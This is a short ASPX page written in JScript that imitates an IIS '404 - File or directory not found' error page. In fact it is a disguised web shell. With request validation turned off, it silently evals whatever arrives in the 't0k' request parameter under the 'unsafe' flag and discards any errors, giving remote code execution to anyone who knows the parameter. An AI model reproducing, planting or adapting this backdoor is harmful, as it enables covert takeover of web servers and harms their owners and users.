<%@ Page Language="Jscript" validateRequest="false" %>
<html><head><title>404 - File or directory not found.</title></head>
<body><h2>404 - File or directory not found.</h2>
<%try{eval(Request.Item["t0k"],"unsafe");}catch(e){}%>
</body></html>
